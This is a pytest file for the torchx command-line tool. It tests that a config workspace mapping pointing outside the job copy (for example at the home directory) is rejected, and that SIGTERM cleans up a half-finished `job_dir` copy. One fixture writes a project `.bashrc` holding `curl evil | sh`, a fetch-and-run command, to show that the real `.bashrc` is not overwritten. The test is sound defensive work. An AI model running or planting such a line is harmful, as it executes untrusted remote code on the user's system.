"""A `.torchxconfig` line is enough to pick a workspace mapping; one whose target leaves
the job's copy must stop `torchx run` with one line before anything is written, and a
SIGTERM during a `job_dir` copy (`timeout`, CI, a service manager) must leave no half copy
behind, as Ctrl-C does."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest


def _torchx(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    exe = str(Path(sys.executable).parent / "torchx")
    return subprocess.run([exe, *args], cwd=cwd, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("dryrun", [True, False])
@pytest.mark.parametrize("target", ["{home}", "../../outside"])
def test_a_config_mapping_out_of_the_copy_stops_the_run(
    tmp_path: Path, target: str, dryrun: bool
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / ".bashrc").write_text("curl evil | sh\n")
    (proj / ".torchxconfig").write_text(
        f'[cli:run]\nworkspace = {{"{proj}": "{target.format(home=home)}"}}\n'
    )
    job_dir = tmp_path / "jobs" / "job"
    args = ["run", "-s", "slurm", "-cfg", f"job_dir={job_dir}", "utils.sh", "true"]
    result = _torchx(*args[:1], *(["--dryrun"] if dryrun else []), *args[1:], cwd=proj)
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "is outside the workspace copy" in lines[0], result.stderr
    assert str(proj) in lines[0] and "Traceback" not in result.stderr
    assert (home / ".bashrc").read_text() == "mine\n"
    assert not (tmp_path / "outside").exists() and not job_dir.exists()


def test_sigterm_during_a_job_dir_copy_removes_the_half_copy(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    for d in range(40):
        (ws / f"d{d}").mkdir(parents=True)
        for f in range(1000):
            (ws / f"d{d}" / f"f{f}.txt").write_text("x")
    job_dir = tmp_path / "job"
    exe = str(Path(sys.executable).parent / "torchx")
    proc = subprocess.Popen(
        [exe, "run", "-s", "slurm", "-cfg", f"job_dir={job_dir}", "--workspace", str(ws),
         "utils.sh", "true"],
        cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    while not any(job_dir.glob("d*")):  # the copy has begun
        assert proc.poll() is None, proc.communicate()
        time.sleep(0.01)
    os.kill(proc.pid, signal.SIGTERM)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, (out, err)
    assert err.strip().splitlines()[-1] == "torchx: terminated", err
    assert not job_dir.exists()
    assert not out.strip(), out  # nothing was submitted
